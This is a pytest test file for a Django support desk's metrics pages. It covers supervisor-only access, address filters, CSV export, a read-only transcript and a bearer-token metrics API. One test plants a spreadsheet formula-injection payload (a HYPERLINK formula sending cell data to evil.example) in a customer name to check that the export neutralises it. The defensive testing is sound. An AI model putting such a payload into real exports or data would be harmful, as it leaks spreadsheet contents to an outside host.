"""The metrics pages (/metrics/): who may open them, the filters in the address, every figure
linking to its conversations, the list and its CSV, the read-only transcript, the query
counts pinned, and GET /api/v1/metrics for personal tokens (401 / 403 / 200 / revoked)."""

from __future__ import annotations

import csv
import html
import io
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from asgiref.sync import async_to_sync
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from desk.metrics_views import filters_parse
from desk.tokens import personal_token_create
from escalation.models import AgentProfile
from outcomes.models import Contact
from outcomes.rollups import rollups_rebuild_all
from tests.desk.conftest import HTMX
from tests.factories import CaseFactory, ConversationFactory, EventFactory, agent_user

pytestmark = pytest.mark.django_db

SUMMARY_KEYS = {
    "conversations",
    "paths",
    "outcomes",
    "fcr",
    "recurrence_30d",
    "csat",
    "handoff",
}


def contact(*, days_ago: float = 1, case: bool = False, **fields: Any) -> Contact:
    """An ended contact, `days_ago` days before now; with `case`, its conversation has one."""
    ended = timezone.now() - timedelta(days=days_ago)
    conversation = ConversationFactory(customer_name=fields.pop("customer", "Ada Lovelace"))
    if case:
        CaseFactory(conversation=conversation, topic=fields.get("topic", ""))
    defaults: dict[str, Any] = {
        "path": "ai_only",
        "outcome": "ai_resolved",
        "resolved": True,
        "topic": "order_status",
        "tier": "standard",
        "customer_key": f"email:c{conversation.pk}@example.com",
        "started_at": ended - timedelta(minutes=12),
        "ended_at": ended,
        "ended_by": "close",
    }
    return Contact.objects.create(conversation=conversation, **{**defaults, **fields})


def history(n: int = 6) -> list[Contact]:
    """A little of everything: the three paths, outcomes, ratings, repeats; rolled up."""
    rows = []
    for i in range(n):
        kind = i % 4
        if kind == 3:
            rows.append(
                contact(
                    days_ago=1 + i % 3,
                    case=True,
                    path="human_direct",
                    outcome="escalated",
                    human_end="resolved",
                    team="billing",
                    topic="refund",
                    rating=4,
                    rating_human=4,
                    handoff_at=timezone.now() - timedelta(days=1 + i % 3, hours=1),
                    wait_seconds=120,
                )
            )
        elif kind == 0:
            rows.append(contact(days_ago=1 + i % 5, rating=5, confirmed=True, fcr=True))
        elif kind == 1:
            rows.append(
                contact(
                    days_ago=2 + i % 5,
                    case=True,
                    path="ai_then_human",
                    outcome="escalated",
                    human_end="resolved",
                    team="billing",
                    topic="refund",
                    rating=2,
                    rating_ai=1,
                    rating_human=4,
                    handoff_at=timezone.now() - timedelta(days=2 + i % 5, hours=1),
                    wait_seconds=300 + i,
                    ai_seconds=200,
                    repeated=True,
                )
            )
        else:
            rows.append(
                contact(
                    days_ago=3,
                    path="ai_only",
                    outcome="deflected",
                    resolved=False,
                    recurred_7d_same=True,
                    recurred_30d_same=True,
                    recurred_30d_any=True,
                )
            )
    # The reports read the daily rollups, which classify's services keep; rows built here
    # are rolled up by hand.
    rollups_rebuild_all()
    return rows


def supervisor(username: str = "rita") -> tuple[Client, Any]:
    user = agent_user(role=AgentProfile.Role.SUPERVISOR, username=username)
    client = Client()
    client.force_login(user)
    return client, user


def _contacts_url(figure: str, **params: str) -> str:
    query = "&".join(f"{k}={v}" for k, v in {"figure": figure, **params}.items())
    return f"{reverse('desk:metrics_contacts')}?{query}"


# Access


def test_anonymous_people_go_to_the_login_and_agents_are_refused(client: Client) -> None:
    conversation = ConversationFactory()
    urls = [
        reverse("desk:metrics"),
        _contacts_url("fcr"),
        reverse("desk:metrics_contacts_csv") + "?figure=fcr",
        reverse("desk:metrics_conversation", args=[conversation.pk]),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("login"))
    client.force_login(agent_user(username="maya"))
    for url in urls:
        assert client.get(url).status_code == 403, url
    queue = client.get(reverse("desk:queue")).content.decode()
    assert 'id="nav-metrics"' not in queue


def test_a_supervisor_has_the_link_in_the_nav() -> None:
    rita, _ = supervisor()
    page = rita.get(reverse("desk:queue")).content.decode()
    assert f'href="{reverse("desk:metrics")}" id="nav-metrics"' in page


# The page


def test_with_no_contact_the_page_says_there_is_no_data_yet() -> None:
    rita, _ = supervisor()
    page = rita.get(reverse("desk:metrics")).content.decode()
    assert "No conversation has ended in this range yet" in page
    assert "%" not in page.split('id="metrics-body"')[1]


def test_the_page_shows_the_figures_charts_and_both_reports() -> None:
    history()
    rita, _ = supervisor()
    recent = rita.get(reverse("desk:metrics")).content.decode()
    # No contact of the last 30 days has had its 60: the churn charts say so, with no table.
    assert recent.count("No contact in this range has had its 60 days yet.") == 2
    assert recent.count("Data table") == 4
    contact(days_ago=75, repurchased_60d=True, cancelled_60d=False)
    contact(
        days_ago=80,
        path="ai_only",
        outcome="deflected",
        resolved=False,
        repurchased_60d=False,
        cancelled_60d=True,
    )
    rollups_rebuild_all()
    response = rita.get(reverse("desk:metrics") + "?since=90d")
    page = response.content.decode()
    assert response.status_code == 200
    for chart in ("outcome-mix", "trends", "csat", "churn-path", "churn-outcome", "gap"):
        assert f'id="chart-{chart}"' in page
    assert page.count("<svg") >= 3
    assert page.count("<desc") >= 3
    assert page.count("Data table") == 6
    assert "Churn and deflection" in page and "The handoff gap" in page
    assert "What this can and cannot say" in page
    # No inline style or script for the CSP to block.
    body = page.split("<body", 1)[1]
    assert "style=" not in body and "<script>" not in body


def test_every_figure_links_to_its_conversations_with_the_filters() -> None:
    history()
    rita, _ = supervisor()
    page = rita.get(reverse("desk:metrics") + "?since=7d&topic=refund").content.decode()
    # The headline figures come first; the charts' shapes link to their own period after.
    links: dict[str, dict[str, list[str]]] = {}
    for href in _hrefs(page):
        if href.startswith(reverse("desk:metrics_contacts")):
            query = parse_qs(urlsplit(href).query)
            links.setdefault(query["figure"][0], query)
    figures = (
        "all",
        "path:ai_only",
        "outcome:deflected",
        "fcr",
        "csat:ai_then_human",
        "csat:ai_then_human:human_part",
        "repeat",
        "handoff:waited",
        "human_end:resolved",
        "gap:repeated",
        "gap:human_direct",
        "churn:eligible",
    )
    for figure in figures:
        assert figure in links, sorted(links)
        assert links[figure]["topic"] == ["refund"]
        assert links[figure]["since"] == [str(timezone.localdate() - timedelta(days=6))]


def _hrefs(page: str) -> list[str]:
    return [html.unescape(part.split('"', 1)[0]) for part in page.split('href="')[1:]]


def test_filters_come_from_the_address_and_bad_dates_fall_back_with_a_message() -> None:
    filters, error = filters_parse({"since": "7d", "topic": "refund", "tier": "gold"})
    assert error == ""
    assert filters.until - filters.since == timedelta(days=6)
    assert (filters.topic, filters.tier) == ("refund", "gold")
    filters, error = filters_parse({"since": "not-a-date", "team": "billing"})
    assert error and filters.team == "billing"
    assert filters.until - filters.since == timedelta(days=29)
    history(3)
    rita, _ = supervisor()
    page = rita.get(reverse("desk:metrics") + "?since=2026-13-45").content.decode()
    assert "Those dates were not used" in page


def test_the_filter_form_answers_htmx_with_just_the_body() -> None:
    history(3)
    rita, _ = supervisor()
    html = rita.get(reverse("desk:metrics") + "?since=30d", headers=HTMX).content.decode()
    assert html.lstrip().startswith('<div id="metrics-body"')
    assert "<html" not in html


# The conversations behind a figure


def test_the_list_links_each_conversation_to_its_last_case_or_its_transcript() -> None:
    rows = history(6)
    rita, _ = supervisor()
    page = rita.get(_contacts_url("all")).content.decode()
    escalated = next(r for r in rows if r.path == "ai_then_human")
    last_case = escalated.conversation.cases.order_by("-queued_at", "-id").first()
    assert reverse("desk:case", args=[last_case.pk]) in page
    ai_only = next(r for r in rows if r.path == "ai_only")
    assert reverse("desk:metrics_conversation", args=[ai_only.conversation_id]) in page
    for column in ("Conversation", "Customer", "Topic", "Path", "Outcome", "Rating", "Ended"):
        assert f">{column}</th>" in page
    deflected = rita.get(_contacts_url("outcome:deflected")).content.decode()
    assert deflected.count("<tr>") == 1 + sum(r.outcome == "deflected" for r in rows)


def test_an_unknown_figure_is_a_404() -> None:
    rita, _ = supervisor()
    assert rita.get(_contacts_url("no-such-figure")).status_code == 404
    csv_url = reverse("desk:metrics_contacts_csv") + "?figure=nope"
    assert rita.get(csv_url).status_code == 404


def test_the_list_is_paginated_and_costs_the_same_queries_for_more_rows() -> None:
    rita, _ = supervisor()
    history(3)
    rita.get(_contacts_url("all"))  # warm the session and the user's profile
    with CaptureQueriesContext(connection) as few:
        assert rita.get(_contacts_url("all")).status_code == 200
    history(60)
    with CaptureQueriesContext(connection) as many:
        page = rita.get(_contacts_url("all")).content.decode()
    assert len(many) == len(few), [q["sql"] for q in many.captured_queries]
    # The session, the user, their profile (asked twice), the count, the page's rows, and
    # the nav's approvals badge.
    assert len(few) == 7, [q["sql"] for q in few.captured_queries]
    assert "Page 1 of 2" in page and "page=2" in page
    second = rita.get(_contacts_url("all", page="2")).content.decode()
    assert second.count("<tr>") == 1 + 63 - 50


def test_the_page_costs_the_same_queries_for_more_contacts() -> None:
    rita, _ = supervisor()
    history(3)
    rita.get(reverse("desk:metrics"))
    with CaptureQueriesContext(connection) as few:
        rita.get(reverse("desk:metrics"))
    history(30)
    with CaptureQueriesContext(connection) as many:
        rita.get(reverse("desk:metrics"))
    assert len(many) == len(few)
    # The reports' own (each pins them), with the session and the user's: no query per row.
    assert len(few) <= 25, [q["sql"] for q in few.captured_queries]


def test_a_bar_links_to_its_own_day() -> None:
    history(4)
    rita, _ = supervisor()
    page = rita.get(reverse("desk:metrics") + "?since=7d").content.decode()
    bars = [
        parse_qs(urlsplit(href).query)
        for href in _hrefs(page)
        if "figure=outcome%3Aai_resolved_confirmed" in href
    ]
    days = [q for q in bars if q["since"] == q["until"]]
    assert days, bars
    day = str(timezone.localdate() - timedelta(days=1))
    assert any(q["since"] == [day] for q in days)


def test_the_csv_streams_the_same_rows_with_their_facts() -> None:
    rows = history(6)
    rita, _ = supervisor()
    response = rita.get(reverse("desk:metrics_contacts_csv") + "?figure=repeat&since=30d")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = _streamed(response)
    table = list(csv.DictReader(io.StringIO(text)))
    repeated = [r for r in rows if r.repeated]
    assert len(table) == len(repeated)
    assert {int(r["conversation_id"]) for r in table} == {r.conversation_id for r in repeated}
    first = table[0]
    assert first["path"] == "ai_then_human" and first["repeated"] == "1"
    assert first["customer"] == "Ada Lovelace" and first["case_id"]


def _streamed(response: Any) -> str:
    """The body of an async streaming response, read as the ASGI handler reads it (on this
    thread's connection, so the test's transaction is visible)."""

    async def read() -> bytes:
        return b"".join([part async for part in response.streaming_content])

    assert response.is_async
    return async_to_sync(read)().decode()


# The read-only transcript


def test_a_supervisor_reads_a_conversation_with_no_case_escaped() -> None:
    row = contact()
    EventFactory(conversation=row.conversation, role="customer", text="<b>where is my order</b>")
    rita, _ = supervisor()
    page = rita.get(reverse("desk:metrics_conversation", args=[row.conversation_id]))
    html = page.content.decode()
    assert page.status_code == 200
    assert "&lt;b&gt;where is my order&lt;/b&gt;" in html
    assert "no case was ever opened" in html
    assert 'name="text"' not in html  # no reply box: read-only
    missing = rita.get(reverse("desk:metrics_conversation", args=[row.conversation_id + 999]))
    assert missing.status_code == 404


# The API


def _api(token: str | None, query: str = "") -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return Client().get(f"/api/v1/metrics{query}", headers=headers)


def test_the_api_answers_only_supervisors_active_tokens() -> None:
    history(6)
    _, rita = supervisor()
    maya = agent_user(username="maya")
    _, rita_token = personal_token_create(user=rita)
    row, revoked = personal_token_create(user=rita)
    row.revoked_at = timezone.now()
    row.save()
    _, maya_token = personal_token_create(user=maya)

    assert _api(None).status_code == 401
    assert _api("btp_not-a-token").status_code == 401
    assert _api(revoked).status_code == 401
    assert _api(maya_token).status_code == 403
    response = _api(rita_token, "?since=30d")
    assert response.status_code == 200
    body = response.json()
    assert set(body) >= SUMMARY_KEYS
    assert body["conversations"] == 6
    assert set(body["paths"]) == {"ai_only", "ai_then_human", "human_direct"}
    assert {"ai_part", "human_part"} <= set(body["csat"]["ai_then_human"])
    assert _api(rita_token, "?since=2026-13-45").status_code == 422
    # A supervisor demoted to agent: the same token is refused.
    AgentProfile.objects.filter(user=rita).update(role=AgentProfile.Role.AGENT)
    assert _api(rita_token).status_code == 403


def test_create_api_token_prints_the_token_once_and_keeps_only_its_hash() -> None:
    _, rita = supervisor()
    out = io.StringIO()
    call_command("create_api_token", "--user", "rita", stdout=out)
    token = out.getvalue().strip()
    assert token.startswith("btp_")
    stored = rita.personal_tokens.get()
    assert token not in {stored.token_hash, stored.prefix} and token.startswith(stored.prefix)
    assert _api(token).status_code == 200
    call_command("create_api_token", "--user", "rita", "--revoke", stdout=io.StringIO())
    assert _api(token).status_code == 401
    agent_user(username="maya")
    with pytest.raises(Exception, match="not a supervisor"):
        call_command("create_api_token", "--user", "maya", stdout=io.StringIO())


# Hostile input: a spreadsheet formula in the export, and dates no report can hold


def test_the_csv_never_hands_a_spreadsheet_a_formula() -> None:
    contact(customer='=HYPERLINK("http://evil.example/?x="&A1,"click")', repeated=True)
    rollups_rebuild_all()
    rita, _ = supervisor()
    text = _streamed(rita.get(reverse("desk:metrics_contacts_csv") + "?figure=all&since=30d"))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["customer"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "query",
    [
        "until=9999-12-31",
        "until=0001-01-05",
        "since=9999-11-15&until=9999-11-16",
        "since=0001-01-01",
        "since=9999d",
        "topic=a%00b",
    ],
)
def test_dates_out_of_range_are_refused_not_a_server_error(query: str) -> None:
    history(2)
    rita, user = supervisor()
    page = rita.get(f"{reverse('desk:metrics')}?{query}")
    assert page.status_code == 200
    assert "were not used" in page.content.decode()
    assert rita.get(_contacts_url("all") + "&" + query).status_code == 200
    assert rita.get(reverse("desk:metrics_contacts_csv") + "?figure=all&" + query).status_code == 200
    _, token = personal_token_create(user=user)
    assert _api(token, "?" + query).status_code == 422
